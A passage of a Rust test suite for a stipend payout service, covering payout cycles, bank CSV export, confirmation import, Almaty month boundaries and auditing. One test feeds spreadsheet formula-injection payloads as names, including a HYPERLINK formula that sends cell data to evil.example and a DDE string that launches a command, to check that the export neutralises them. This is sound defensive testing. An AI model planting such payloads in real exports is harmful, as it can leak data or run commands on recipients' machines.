//! The payout cycle creates each stipend once: run twice, by two workers at once, and resumed after
//! a worker stopped halfway. Amounts follow the stipend rule from recorded attendance.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use chrono::Datelike;
use common::{
    TestApp,
    api::today,
    spawn_app,
    stipends::{a_month_of_attendance, attendance_month, attendance_month_then, ok},
};
use serde_json::{Value, json};
use social_jobs::config::Settings;

/// The one course of a test (its application deadline has passed: it is no longer browsable).
async fn the_course(app: &TestApp) -> String {
    use diesel::prelude::*;
    use social_jobs::db::{DbError, schema::openings};
    app.store
        .run(|c| {
            openings::table
                .filter(openings::kind.eq("course"))
                .select(openings::id)
                .first::<String>(c)
                .map_err(DbError::from)
        })
        .await
        .unwrap()
}

async fn payouts_in_db(app: &TestApp) -> i64 {
    use diesel::prelude::*;
    use social_jobs::db::{DbError, schema::payouts};
    app.store
        .run(|c| payouts::table.count().get_result(c).map_err(DbError::from))
        .await
        .unwrap()
}

async fn csv(app: &TestApp, admin: &str, batch: &str, body: &str) -> reqwest::Response {
    app.client
        .post(app.url(&format!("/api/v1/payout-batches/{batch}/confirmation")))
        .bearer_auth(admin)
        .header("content-type", "text/csv")
        .body(body.to_owned())
        .send()
        .await
        .unwrap()
}

backend_tests! {
    async fn a_batch_goes_to_the_bank_and_its_confirmation_settles_it(backend: Backend) {
        let app = spawn_app(backend).await;
        let (admin, provider, mothers, period) = attendance_month(&app, 3, true).await;
        // The third mother has no IBAN: her payout is held, not lost.
        let mut p = common::api::profile(&common::api::iin(3).0);
        p["district"] = json!("zhetysu");
        p["iban"] = Value::Null;
        ok(app.client.put(app.url("/api/v1/me/profile")).bearer_auth(&mothers[2]).json(&p).send().await.unwrap()).await;
        social_jobs::payouts::cycle::run(&app.store, &Settings::default(), None).await.unwrap();
        let scheduled: Value = app.get_as(&format!("/api/v1/payouts?period={period}"), &admin).await.json().await.unwrap();
        let amount = scheduled["items"][0]["amount_tiyn"].as_i64().unwrap();
        assert!(amount > 0);
        assert_eq!(app.post_json("/api/v1/payout-batches", &json!({ "period": period }), Some(&provider)).await.status(), 403);
        let batch = ok(app.post_json("/api/v1/payout-batches", &json!({ "period": period }), Some(&admin)).await).await;
        let id = batch["id"].as_str().unwrap().to_owned();
        let r = &batch["reconciliation"];
        assert_eq!((r["in_batch"]["count"].as_i64(), r["held"]["count"].as_i64()), (Some(2), Some(1)));
        assert_eq!(r["in_batch"]["amount_tiyn"].as_i64().unwrap() + r["held"]["amount_tiyn"].as_i64().unwrap(), 3 * amount, "scheduled = approved + held");
        assert_eq!(batch["held"].as_array().unwrap().len(), 1);
        // Confirmation before export: refused.
        assert_eq!(csv(&app, &admin, &id, "payout_id,status,amount_kzt,reference,reason\n").await.status(), 409);
        // She empties her IBAN after the approval: the bank file keeps the account approved.
        let mut p1 = common::api::profile(&common::api::iin(1).0);
        p1["district"] = json!("zhetysu");
        let approved_iban = p1["iban"].clone();
        p1["iban"] = Value::Null;
        ok(app.client.put(app.url("/api/v1/me/profile")).bearer_auth(&mothers[0]).json(&p1).send().await.unwrap()).await;
        // The bank file.
        let res = app.get_as(&format!("/api/v1/payout-batches/{id}/export"), &admin).await;
        assert_eq!(res.status(), 200);
        assert!(res.headers()["content-type"].to_str().unwrap().starts_with("text/csv"));
        let file = res.text().await.unwrap();
        let lines: Vec<&str> = file.lines().collect();
        assert_eq!(lines[0], "batch_id,payout_id,payee_kind,iin_bin,name,iban,amount_kzt,purpose");
        assert!(lines[1..].iter().all(|l| l.split(',').nth(2) == Some("person")), "{file}");
        assert_eq!(lines.len(), 3);
        assert!(lines[1].contains(&common::api::iin(1).0) || lines[2].contains(&common::api::iin(1).0));
        assert!(lines[1].contains("KZ86125KZT5004100100") && lines[1].contains(&social_jobs::payouts::tenge(amount)));
        assert!(lines[2].contains("KZ86125KZT5004100100"), "{file}");
        p1["iban"] = approved_iban;
        ok(app.client.put(app.url("/api/v1/me/profile")).bearer_auth(&mothers[0]).json(&p1).send().await.unwrap()).await;
        assert_eq!(app.get_as(&format!("/api/v1/payout-batches/{id}/export"), &admin).await.text().await.unwrap(), file, "the same file again");
        let ids: Vec<String> = lines[1..].iter().map(|l| l.split(',').nth(1).unwrap().to_owned()).collect();
        let tenge = social_jobs::payouts::tenge(amount);
        // Bad files change nothing: a payout of no batch of ours, another amount, an unknown status.
        for bad in [
            format!("{},paid,{tenge},REF1,\nnot-a-payout,paid,{tenge},REF2,\n", ids[0]),
            format!("{},paid,1.00,REF1,\n", ids[0]),
            format!("{},maybe,{tenge},REF1,\n", ids[0]),
        ] {
            let res = csv(&app, &admin, &id, &bad).await;
            assert_eq!(res.status(), 422, "{bad}");
        }
        let unchanged = ok(app.get_as(&format!("/api/v1/payout-batches/{id}"), &admin).await).await;
        assert_eq!(unchanged["by_status"]["sent"]["count"], 2);
        assert_eq!(app.client.post(app.url(&format!("/api/v1/payout-batches/{id}/confirmation"))).bearer_auth(&admin).json(&json!({})).send().await.unwrap().status(), 415);
        // The real confirmation: one paid, one failed.
        let good = format!("payout_id,status,amount_kzt,reference,reason\n{},paid,{tenge},HB-001,\n{},failed,{tenge},,account closed\n", ids[0], ids[1]);
        let settled = ok(csv(&app, &admin, &id, &good).await).await;
        assert_eq!(settled["status"], "settled");
        let r = &settled["reconciliation"];
        assert_eq!((r["exported"]["count"].as_i64(), r["paid"]["count"].as_i64(), r["failed"]["count"].as_i64(), r["pending"]["count"].as_i64()), (Some(2), Some(1), Some(1), Some(0)));
        assert_eq!(r["balanced"], true);
        // Importing it again changes nothing; contradicting it is refused.
        assert_eq!(ok(csv(&app, &admin, &id, &good).await).await["by_status"], settled["by_status"]);
        assert_eq!(csv(&app, &admin, &id, &format!("{},failed,{tenge},,x\n", ids[0])).await.status(), 422);
        // Mothers are told.
        let mut steps = Vec::new();
        for who in ["mother1@example.kz", "mother2@example.kz", "mother3@example.kz"] {
            steps.extend(app.emails_to(who).await.into_iter().filter(|e| e.0 == "payout_update").map(|e| e.2["step"].as_str().unwrap().to_owned()));
        }
        steps.sort();
        assert_eq!(steps, ["failed", "paid"]);
        // The failed payout goes again in a later batch; the held one stays held.
        let again = ok(app.post_json("/api/v1/payout-batches", &json!({ "period": period }), Some(&admin)).await).await;
        assert_eq!((again["reconciliation"]["in_batch"]["count"].as_i64(), again["reconciliation"]["held"]["count"].as_i64()), (Some(1), Some(1)));
        // The case worker finds both in the month's list, newest first, a page at a time.
        let listed = ok(app.get_as(&format!("/api/v1/payout-batches?period={period}"), &admin).await).await;
        let batch_ids: Vec<String> = listed["items"].as_array().unwrap().iter().map(|b| b["id"].as_str().unwrap().to_owned()).collect();
        assert_eq!(batch_ids, vec![again["id"].as_str().unwrap().to_owned(), id.clone()]);
        assert_eq!(listed["items"][1]["status"], "settled");
        let one = ok(app.get_as(&format!("/api/v1/payout-batches?period={period}&limit=1"), &admin).await).await;
        let cursor = one["next_cursor"].as_str().unwrap();
        let next = ok(app.get_as(&format!("/api/v1/payout-batches?period={period}&limit=1&cursor={cursor}"), &admin).await).await;
        assert_eq!(next["items"][0]["id"], id.as_str());
        assert!(next["next_cursor"].is_null());
        let other = ok(app.get_as("/api/v1/payout-batches?period=2030-01", &admin).await).await;
        assert!(other["items"].as_array().unwrap().is_empty());
        // The first batch stays as it went to the bank: its file, its totals, its confirmation.
        let first = ok(app.get_as(&format!("/api/v1/payout-batches/{id}"), &admin).await).await;
        assert_eq!((&first["reconciliation"], &first["by_status"]), (&settled["reconciliation"], &settled["by_status"]));
        assert_eq!(app.get_as(&format!("/api/v1/payout-batches/{id}/export"), &admin).await.text().await.unwrap(), file);
        assert_eq!(ok(csv(&app, &admin, &id, &good).await).await["by_status"], settled["by_status"]);
        // The re-issued payout goes to the bank again in the new batch; failing again, she is told again.
        let again_id = again["id"].as_str().unwrap();
        let second_file = app.get_as(&format!("/api/v1/payout-batches/{again_id}/export"), &admin).await.text().await.unwrap();
        assert!(second_file.contains(&ids[1]) && !second_file.contains(&ids[0]), "{second_file}");
        ok(csv(&app, &admin, again_id, &format!("{},failed,{tenge},,account still closed\n", ids[1])).await).await;
        let mut steps = Vec::new();
        for who in ["mother1@example.kz", "mother2@example.kz", "mother3@example.kz"] {
            steps.extend(app.emails_to(who).await.into_iter().filter(|e| e.0 == "payout_update").map(|e| e.2["step"].as_str().unwrap().to_owned()));
        }
        steps.sort();
        assert_eq!(steps, ["failed", "failed", "paid"]);
        let first = ok(app.get_as(&format!("/api/v1/payout-batches/{id}"), &admin).await).await;
        assert_eq!(first["reconciliation"], settled["reconciliation"]);
        // Every payout change is audited.
        let p0 = ids[0].clone();
        let actions: Vec<String> = app.store.run(move |c| social_jobs::audit::for_entity(c, "payout", &p0).map_err(social_jobs::db::DbError::from)).await.unwrap().into_iter().map(|e| e.action).collect();
        assert_eq!(actions, ["payout.scheduled", "payout.status_changed", "payout.status_changed", "payout.status_changed"]);
    }

    async fn the_cycle_creates_each_payout_once_however_it_is_run(backend: Backend) {
        let app = spawn_app(backend).await;
        let (admin, provider, mothers, period) = a_month_of_attendance(&app, 3).await;
        let settings = Settings::default();
        // Two workers at once from nothing: each payout is made by exactly one of them.
        let (a, b) = tokio::join!(
            social_jobs::payouts::cycle::run(&app.store, &settings, None),
            social_jobs::payouts::cycle::run(&app.store, &settings, None),
        );
        assert_eq!(a.unwrap().created + b.unwrap().created, 3);
        assert_eq!(payouts_in_db(&app).await, 3);
        // Start again from nothing (the emails' dedup keys are kept, so none is sent twice).
        app.store.run(|c| { use diesel::RunQueryDsl; diesel::delete(social_jobs::db::schema::payouts::table).execute(c).map_err(social_jobs::db::DbError::from) }).await.unwrap();
        assert_eq!(payouts_in_db(&app).await, 0);
        // A worker stops after one enrollment; the next run completes the rest.
        let first = social_jobs::payouts::cycle::run(&app.store, &settings, Some(1)).await.unwrap();
        assert_eq!(first.created, 1);
        let rest = social_jobs::payouts::cycle::run(&app.store, &settings, None).await.unwrap();
        assert_eq!(rest.created, 2);
        // Again, and by two workers at once: nothing new.
        let again = social_jobs::payouts::cycle::run(&app.store, &settings, None).await.unwrap();
        assert_eq!(again.created, 0);
        let (a, b) = tokio::join!(
            social_jobs::payouts::cycle::run(&app.store, &settings, None),
            social_jobs::payouts::cycle::run(&app.store, &settings, None),
        );
        assert_eq!(a.unwrap().created + b.unwrap().created, 0);
        assert_eq!(payouts_in_db(&app).await, 3);
        // 30,000 ₸ a month, linear, 80 % minimum. The month had three sessions, fewer than the
        // course's busiest month (its weekly timetable later on), so it is pro-rated: three of
        // three pays 30,000 ₸ × 3 ÷ busiest, rounded down; two of three (67 %) pays nothing.
        let hers: Value = app.get_as("/api/v1/me/payouts", &mothers[0]).await.json().await.unwrap();
        assert_eq!(hers.as_array().unwrap().len(), 1);
        let full = hers[0]["inputs"]["full_month_sessions"].as_i64().unwrap();
        assert!(full >= 3);
        assert_eq!((hers[0]["period"].as_str(), hers[0]["amount_tiyn"].as_i64(), hers[0]["status"].as_str()), (Some(period.as_str()), Some(3_000_000 * 3 / full), Some("scheduled")));
        assert_eq!((hers[0]["inputs"]["sessions_scheduled"].as_i64(), hers[0]["inputs"]["sessions_attended"].as_i64()), (Some(3), Some(3)));
        // Nothing is due for two of three: recorded, closed with its reason, never a "0 ₸" email.
        let second: Value = app.get_as("/api/v1/me/payouts", &mothers[1]).await.json().await.unwrap();
        assert_eq!((second[0]["amount_tiyn"].as_i64(), second[0]["status"].as_str(), second[0]["reason"].as_str()), (Some(0), Some("cancelled"), Some(social_jobs::payouts::service::NOT_DUE)));
        assert!(app.emails_to("mother2@example.kz").await.iter().all(|e| e.0 != "payout_scheduled"));
        // She is emailed once.
        let mails: Vec<Value> = app.emails_to("mother1@example.kz").await.into_iter().filter(|e| e.0 == "payout_scheduled").map(|e| e.2).collect();
        assert_eq!(mails.len(), 1);
        assert_eq!(mails[0]["amount"], social_jobs::payouts::tenge(3_000_000 * 3 / full));
        // Case workers list by month and status; a provider sees none of them; a seeker only hers.
        let scheduled: Value = app.get_as(&format!("/api/v1/payouts?period={period}&status=scheduled"), &admin).await.json().await.unwrap();
        assert_eq!(scheduled["items"].as_array().unwrap().len(), 1);
        let all: Value = app.get_as(&format!("/api/v1/payouts?period={period}"), &admin).await.json().await.unwrap();
        assert_eq!((all["items"].as_array().unwrap().len(), &all["next_cursor"]), (3, &Value::Null));
        // A page at a time: two, then the last one, each payout once.
        let first: Value = app.get_as(&format!("/api/v1/payouts?period={period}&limit=2"), &admin).await.json().await.unwrap();
        let cursor = first["next_cursor"].as_str().unwrap().to_owned();
        let rest: Value = app.get_as(&format!("/api/v1/payouts?period={period}&limit=2&cursor={cursor}"), &admin).await.json().await.unwrap();
        assert_eq!((first["items"].as_array().unwrap().len(), rest["items"].as_array().unwrap().len(), &rest["next_cursor"]), (2, 1, &Value::Null));
        let paged: Vec<&Value> = first["items"].as_array().unwrap().iter().chain(rest["items"].as_array().unwrap()).map(|p| &p["id"]).collect();
        let whole: Vec<&Value> = all["items"].as_array().unwrap().iter().map(|p| &p["id"]).collect();
        assert_eq!(paged, whole);
        let forged = app.get_as("/api/v1/payouts?cursor=forged", &admin).await;
        assert_eq!((forged.status().as_u16(), forged.headers()["content-type"].to_str().unwrap()), (422, "application/problem+json"));
        // A provider sees only what is paid to her organisation (nothing: stipends go to people).
        let theirs: Value = app.get_as("/api/v1/payouts", &provider).await.json().await.unwrap();
        assert_eq!(theirs["items"], json!([]));
        assert_eq!(app.get_as("/api/v1/payouts?period=2027-13", &admin).await.status(), 422);
        assert_eq!(app.get_as("/api/v1/payouts", &mothers[0]).await.status(), 403);
    }

    async fn a_late_correction_reaches_the_payouts_no_money_has_moved_for(backend: Backend) {
        let app = spawn_app(backend).await;
        // Mother 1 came to all three sessions; mother 2 missed the last (2 of 3 < 80 %: nothing).
        let (admin, provider, mothers, period) = a_month_of_attendance(&app, 2).await;
        let settings = Settings::default(); // a 5-day grace period
        assert_eq!(social_jobs::payouts::cycle::run(&app.store, &settings, None).await.unwrap().created, 2);
        let batch = ok(app.post_json("/api/v1/payout-batches", &json!({ "period": period }), Some(&admin)).await).await;
        assert_eq!(batch["reconciliation"]["in_batch"]["count"], 1, "{batch}");
        let amount = |v: &Value, mother: usize| v.as_array().unwrap()[mother]["amount_tiyn"].as_i64().unwrap();
        let hers = |m: usize| { let app = &app; let t = mothers[m].clone(); async move { app.get_as("/api/v1/me/payouts", &t).await.json::<Value>().await.unwrap() } };
        let full = amount(&hers(0).await, 0);
        assert!(full > 0 && amount(&hers(1).await, 0) == 0);
        // The case worker reopens the month: both payouts are taken back, the approved one out of
        // its open batch too, and nothing is paid while it is open.
        let course = the_course(&app).await;
        let reopened = ok(app.post_json(&format!("/api/v1/courses/{course}/periods/{period}/reopen"), &json!({}), Some(&admin)).await).await;
        assert_eq!(reopened["payouts"], json!({ "withdrawn": 2, "unchanged": 0 }));
        let batch = ok(app.get_as(&format!("/api/v1/payout-batches/{}", batch["id"].as_str().unwrap()), &admin).await).await;
        assert_eq!(batch["reconciliation"]["in_batch"]["count"], 0);
        assert_eq!(hers(0).await[0]["status"], "cancelled");
        let run = social_jobs::payouts::cycle::run(&app.store, &settings, None).await.unwrap();
        assert_eq!((run.created, run.reissued), (0, 0), "it waits for the corrections");
        assert_eq!(app.post_json("/api/v1/payout-batches", &json!({ "period": period }), Some(&admin)).await.status(), 409);
        // The provider corrects mother 2's last session (she was there after all) and closes it.
        let sessions: Value = app.get_as(&format!("/api/v1/courses/{course}/sessions"), &provider).await.json().await.unwrap();
        let last = sessions.as_array().unwrap().iter().rfind(|s| s["starts_at"].as_str().unwrap() < today().to_string().as_str()).unwrap()["id"].as_str().unwrap().to_owned();
        let enrollments: Value = app.get_as("/api/v1/me/enrollments", &mothers[1]).await.json().await.unwrap();
        let res = app.client.put(app.url(&format!("/api/v1/sessions/{last}/attendance"))).bearer_auth(&provider).json(&json!({ "entries": [{ "enrollment_id": enrollments[0]["id"], "status": "present", "note": "signed the paper register" }] })).send().await.unwrap();
        ok(res).await;
        ok(app.post_json(&format!("/api/v1/courses/{course}/periods/{period}/close"), &json!({}), Some(&provider)).await).await;
        // The same payouts are computed again: one per person and month still, hers now paid in full.
        let run = social_jobs::payouts::cycle::run(&app.store, &settings, None).await.unwrap();
        assert_eq!((run.created, run.reissued), (0, 2));
        assert_eq!(payouts_in_db(&app).await, 2);
        let (first, second) = (hers(0).await, hers(1).await);
        assert_eq!((amount(&first, 0), amount(&second, 0)), (full, full));
        assert_eq!((first[0]["status"].as_str(), second[0]["status"].as_str()), (Some("scheduled"), Some("scheduled")));
        assert_eq!(second[0]["inputs"]["sessions_attended"], 3);
        let audit_id = second[0]["id"].as_str().unwrap().to_owned();
        let events = app.store.run(move |c| social_jobs::audit::for_entity(c, "payout", &audit_id).map_err(social_jobs::db::DbError::from)).await.unwrap();
        let recomputed = events.iter().find(|e| e.action == "payout.recomputed").unwrap();
        assert!(recomputed.before_json.as_deref().unwrap().contains("\"amount_tiyn\":0") && recomputed.after_json.as_deref().unwrap().contains(&format!("\"amount_tiyn\":{full}")));
        // Mother 2 is told the new amount; mother 1, whose amount did not change, is not told twice.
        let told = |to: &'static str| { let app = &app; async move { app.emails_to(to).await.into_iter().filter(|e| e.0 == "payout_scheduled").map(|e| e.2["amount"].as_str().unwrap().to_owned()).collect::<Vec<_>>() } };
        assert_eq!(told("mother1@example.kz").await, [social_jobs::payouts::tenge(full)]);
        assert_eq!(told("mother2@example.kz").await, [social_jobs::payouts::tenge(full)]);
        assert_eq!(social_jobs::payouts::cycle::run(&app.store, &settings, None).await.unwrap(), social_jobs::payouts::cycle::CycleRun { enrollments: 2, ..Default::default() });
        // Reopened and left open: once the grace period has passed since the reopening, the
        // payouts are computed again anyway, so none is forgotten.
        assert_eq!(ok(app.post_json(&format!("/api/v1/courses/{course}/periods/{period}/reopen"), &json!({}), Some(&admin)).await).await["payouts"]["withdrawn"], 2);
        common::clock().advance(chrono::Duration::days(6));
        assert_eq!(social_jobs::payouts::cycle::run(&app.store, &settings, None).await.unwrap().reissued, 2);
        // Once money is at the bank, a reopening leaves the amounts alone and says so.
        ok(app.post_json(&format!("/api/v1/courses/{course}/periods/{period}/close"), &json!({}), Some(&provider)).await).await;
        let batch = ok(app.post_json("/api/v1/payout-batches", &json!({ "period": period }), Some(&admin)).await).await;
        assert_eq!(app.get_as(&format!("/api/v1/payout-batches/{}/export", batch["id"].as_str().unwrap()), &admin).await.status(), 200);
        let reopened = ok(app.post_json(&format!("/api/v1/courses/{course}/periods/{period}/reopen"), &json!({}), Some(&admin)).await).await;
        assert_eq!(reopened["payouts"], json!({ "withdrawn": 0, "unchanged": 2 }));
    }

    async fn an_open_month_waits_for_closing_or_its_grace_period(backend: Backend) {
        let app = spawn_app(backend).await;
        let (admin, _, _, period) = a_month_of_attendance(&app, 1).await;
        let course = the_course(&app).await;
        ok(app.post_json(&format!("/api/v1/courses/{course}/periods/{period}/reopen"), &json!({}), Some(&admin)).await).await;
        // Reopened, within the grace period (long in these settings): nothing yet.
        let patient = Settings { attendance_grace_days: 60, ..Settings::default() };
        assert_eq!(social_jobs::payouts::cycle::run(&app.store, &patient, None).await.unwrap().created, 0);
        // Once the grace period has passed, it is paid even though the month stayed open.
        let prompt = Settings { attendance_grace_days: 0, ..Settings::default() };
        assert_eq!(social_jobs::payouts::cycle::run(&app.store, &prompt, None).await.unwrap().created, 1);
    }

    async fn a_month_ends_at_midnight_in_almaty_on_its_last_day(backend: Backend) {
        // December into January (a new year), and a leap February into March.
        for (month_over, last_minute, grace_over, period) in [
            ("2027-01-01T06:00:00Z", "2026-12-31T18:59:00Z", "2027-01-05T19:01:00Z", "2026-12"),
            ("2028-03-01T06:00:00Z", "2028-02-29T18:59:00Z", "2028-03-05T19:01:00Z", "2028-02"),
        ] {
            common::set_clock(month_over);
            let app = spawn_app(backend).await;
            let (_, provider, mothers, p) = attendance_month_then(&app, 1, true, false).await;
            assert_eq!(p, period);
            let course = the_course(&app).await;
            let close_url = format!("/api/v1/courses/{course}/periods/{period}/close");
            let empty = json!({});
            let close = || app.post_json(&close_url, &empty, Some(&provider));
            let settings = Settings::default(); // a 5-day grace period
            let cycle = || social_jobs::payouts::cycle::run(&app.store, &settings, None);
            // 23:59 on the last day in Almaty: the month is not over, whatever UTC says.
            common::set_clock(last_minute);
            assert_eq!(close().await.status(), 409, "{period} closed before it ended");
            assert_eq!(cycle().await.unwrap().created, 0);
            // The last day of the grace period, then the first minute after it: paid unclosed.
            common::clock().set(chrono::DateTime::parse_from_rfc3339(grace_over).unwrap().to_utc() - chrono::Duration::minutes(2));
            assert_eq!(cycle().await.unwrap().created, 0, "{period} paid inside its grace period");
            common::set_clock(grace_over);
            assert_eq!(cycle().await.unwrap().created, 1);
            let hers: Value = app.get_as("/api/v1/me/payouts", &mothers[0]).await.json().await.unwrap();
            assert_eq!((hers[0]["period"].as_str(), hers.as_array().unwrap().len()), (Some(period), 1));
            assert!(hers[0]["amount_tiyn"].as_i64().unwrap() > 0);
            assert_eq!(cycle().await.unwrap().created, 0);
        }
    }

    async fn a_closed_month_is_paid_from_the_first_minute_after_it(backend: Backend) {
        common::set_clock("2026-12-01T06:00:00Z");
        let app = spawn_app(backend).await;
        let (_, provider, mothers, period) = attendance_month_then(&app, 1, true, false).await;
        assert_eq!(period, "2026-11");
        let course = the_course(&app).await;
        // 00:01 on 1 December in Almaty is still 30 November in UTC.
        common::set_clock("2026-11-30T19:01:00Z");
        ok(app.post_json(&format!("/api/v1/courses/{course}/periods/{period}/close"), &json!({}), Some(&provider)).await).await;
        let run = social_jobs::payouts::cycle::run(&app.store, &Settings::default(), None).await.unwrap();
        assert_eq!(run.created, 1);
        let hers: Value = app.get_as("/api/v1/me/payouts", &mothers[0]).await.json().await.unwrap();
        assert_eq!(hers[0]["period"], "2026-11");
    }

    async fn a_file_naming_a_payout_twice_is_refused_whole_and_paid_is_final(backend: Backend) {
        let app = spawn_app(backend).await;
        let (admin, _, _, period) = attendance_month(&app, 2, true).await;
        social_jobs::payouts::cycle::run(&app.store, &Settings::default(), None).await.unwrap();
        let batch = ok(app.post_json("/api/v1/payout-batches", &json!({ "period": period }), Some(&admin)).await).await;
        let id = batch["id"].as_str().unwrap().to_owned();
        let file = app.get_as(&format!("/api/v1/payout-batches/{id}/export"), &admin).await.text().await.unwrap();
        let lines: Vec<Vec<&str>> = file.lines().skip(1).map(|l| l.split(',').collect()).collect();
        let (p0, p1, tenge) = (lines[0][1].to_owned(), lines[1][1].to_owned(), lines[0][6].to_owned());
        // Paid, then failed, for one payout: the whole file is refused, naming the second line.
        let twice = format!("payout_id,status,amount_kzt,reference,reason\n{p0},paid,{tenge},HB-1,\n{p1},paid,{tenge},HB-2,\n{p0},failed,{tenge},,closed\n");
        let res = csv(&app, &admin, &id, &twice).await;
        assert_eq!(res.status(), 422);
        let problem: Value = res.json().await.unwrap();
        assert!(problem["errors"]["line 3"].as_str().unwrap().contains('1'), "{problem}");
        // Nothing of it was applied and nobody was told anything.
        let unchanged = ok(app.get_as(&format!("/api/v1/payout-batches/{id}"), &admin).await).await;
        assert_eq!(unchanged["by_status"]["sent"]["count"], 2, "{unchanged}");
        for who in ["mother1@example.kz", "mother2@example.kz"] {
            assert!(app.emails_to(who).await.iter().all(|e| e.0 != "payout_update"), "{who}");
        }
        // The clean file settles it; a paid payout is final even for SQL that skips the service.
        ok(csv(&app, &admin, &id, &format!("{p0},paid,{tenge},HB-1,\n{p1},paid,{tenge},HB-2,\n")).await).await;
        for to in ["scheduled", "approved", "sent", "failed", "cancelled"] {
            let (p, to2) = (p0.clone(), to.to_owned());
            let moved = app.store.run(move |c| {
                use diesel::prelude::*;
                use social_jobs::db::schema::payouts;
                diesel::update(payouts::table.find(p)).set(payouts::status.eq(to2)).execute(c).map_err(social_jobs::db::DbError::from)
            }).await;
            assert!(moved.is_err(), "paid -> {to} was allowed");
        }
        let hers: Value = ok(app.get_as(&format!("/api/v1/payouts?period={period}&status=paid"), &admin).await).await;
        assert_eq!(hers["items"].as_array().unwrap().len(), 2);
        // And no later batch takes it to the bank again.
        assert_eq!(app.post_json("/api/v1/payout-batches", &json!({ "period": period }), Some(&admin)).await.status(), 409);
    }

    async fn the_cycle_pays_only_months_the_course_ran(backend: Backend) {
        let app = spawn_app(backend).await;
        let (admin, _, _, period) = attendance_month(&app, 1, true).await;
        // Sessions stored before sessions had to lie within their course: one in 1990, one the
        // month before the course. They do not stretch the months paid.
        let course = the_course(&app).await;
        app.store.run(move |c| {
            let at = |d: &str, h: u32| chrono::NaiveDate::parse_from_str(d, "%Y-%m-%d").unwrap().and_hms_opt(h, 0, 0).unwrap();
            let before = (common::clock().today().checked_sub_months(chrono::Months::new(2)).unwrap().with_day(12).unwrap()).to_string();
            for d in ["1990-01-10", before.as_str()] {
                social_jobs::openings::service::add_session(c, &course, at(d, 4), at(d, 7)).map_err(|_| diesel::result::Error::RollbackTransaction)?;
            }
            Ok::<_, social_jobs::db::DbError>(())
        }).await.unwrap();
        let run = social_jobs::payouts::cycle::run(&app.store, &Settings::default(), None).await.unwrap();
        assert_eq!(run.created, 1, "{run:?}");
        let all: Value = ok(app.get_as("/api/v1/payouts", &admin).await).await;
        let periods: Vec<&str> = all["items"].as_array().unwrap().iter().map(|p| p["period"].as_str().unwrap()).collect();
        assert_eq!(periods, [period.as_str()]);
        let mails = app.emails_to("mother1@example.kz").await.into_iter().filter(|e| e.0 == "payout_scheduled").count();
        assert_eq!(mails, 1);
    }

    async fn the_bank_file_holds_no_formula_whatever_the_names(backend: Backend) {
        let app = spawn_app(backend).await;
        let (admin, _, mothers, period) = attendance_month(&app, 3, true).await;
        let names = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Айгүл\")", "+cmd|' /C calc'!A0", "@SUM(A1:A9)"];
        for (i, (t, name)) in mothers.iter().zip(names).enumerate() {
            let mut p = common::api::profile(&common::api::iin(i as u32 + 1).0);
            p["district"] = json!("zhetysu");
            p["full_name"] = json!(name);
            ok(app.client.put(app.url("/api/v1/me/profile")).bearer_auth(t).json(&p).send().await.unwrap()).await;
        }
        // Names with a tab, a right-to-left override or a zero-width space are refused (a NUL is
        // refused before, at the edge: 400).
        for bad in ["Айгүл\tСейітқызы", "Ай\u{202E}гүл", "Ай\u{200B}гүл"] {
            let mut p = common::api::profile(&common::api::iin(1).0);
            p["district"] = json!("zhetysu");
            p["full_name"] = json!(bad);
            let res = app.client.put(app.url("/api/v1/me/profile")).bearer_auth(&mothers[0]).json(&p).send().await.unwrap();
            assert_eq!(res.status(), 422, "{bad:?}");
            let body: Value = res.json().await.unwrap();
            assert!(body.to_string().contains("full_name"), "{body}");
        }
        social_jobs::payouts::cycle::run(&app.store, &Settings::default(), None).await.unwrap();
        let batch = ok(app.post_json("/api/v1/payout-batches", &json!({ "period": period }), Some(&admin)).await).await;
        let file = app.get_as(&format!("/api/v1/payout-batches/{}/export", batch["id"].as_str().unwrap()), &admin).await.text().await.unwrap();
        let mut reader = csv::ReaderBuilder::new().from_reader(file.as_bytes());
        let mut seen = Vec::new();
        for record in reader.records() {
            let record = record.unwrap();
            for cell in record.iter() {
                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a formula cell: {cell:?}");
            }
            seen.push(record[4].to_owned());
            // The amount stays a number.
            assert!(record[6].parse::<f64>().is_ok(), "{record:?}");
        }
        seen.sort();
        let mut want: Vec<String> = names.iter().map(|n| format!("'{n}")).collect();
        want.sort();
        assert_eq!(seen, want);
    }

    async fn a_national_sized_confirmation_is_read_and_the_limit_is_a_setting(backend: Backend) {
        // A small limit, to show it is the setting that decides.
        let db = common::TestDatabase::migrated(backend).await;
        let mut settings = common::test_settings(&db);
        settings.max_file_bytes = 64 * 1024;
        let app = common::spawn_with(db, settings).await;
        let (admin, _, _, period) = attendance_month(&app, 2, true).await;
        social_jobs::payouts::cycle::run(&app.store, &Settings::default(), None).await.unwrap();
        let batch = ok(app.post_json("/api/v1/payout-batches", &json!({ "period": period }), Some(&admin)).await).await;
        let id = batch["id"].as_str().unwrap().to_owned();
        let file = app.get_as(&format!("/api/v1/payout-batches/{id}/export"), &admin).await.text().await.unwrap();
        let lines: Vec<Vec<&str>> = file.lines().skip(1).map(|l| l.split(',').collect()).collect();
        let mut big = String::from("payout_id,status,amount_kzt,reference,reason\n");
        for l in &lines {
            big.push_str(&format!("{},paid,{},HB-{},\n", l[1], l[6], l[1]));
        }
        // 20,000 lines more (about 1.3 MB, far past actix's 256 KiB default for a body).
        for n in 0..20_000 {
            big.push_str(&format!("019a0000-0000-7000-8000-{n:012},paid,30000.00,HB-{n:08},\n"));
        }
        assert!(big.len() > 1_200_000);
        let res = csv(&app, &admin, &id, &big).await;
        assert_eq!(res.status(), 413);
        let problem: Value = res.json().await.unwrap();
        assert!(problem["detail"].as_str().unwrap().contains("65536"), "{problem}");
        // The default limit reads it: every unknown line is named, nothing applied.
        let app = spawn_app(backend).await;
        let (admin, _, _, period) = attendance_month(&app, 2, true).await;
        social_jobs::payouts::cycle::run(&app.store, &Settings::default(), None).await.unwrap();
        let batch = ok(app.post_json("/api/v1/payout-batches", &json!({ "period": period }), Some(&admin)).await).await;
        let id = batch["id"].as_str().unwrap().to_owned();
        let file = app.get_as(&format!("/api/v1/payout-batches/{id}/export"), &admin).await.text().await.unwrap();
        let real: String = file.lines().skip(1).map(|l| { let c: Vec<&str> = l.split(',').collect(); format!("{},paid,{},HB-{},\n", c[1], c[6], c[1]) }).collect();
        let tail = &big[big.find("019a0000").unwrap()..];
        let res = csv(&app, &admin, &id, &format!("payout_id,status,amount_kzt,reference,reason\n{real}{tail}")).await;
        assert_eq!(res.status(), 422);
        let problem: Value = res.json().await.unwrap();
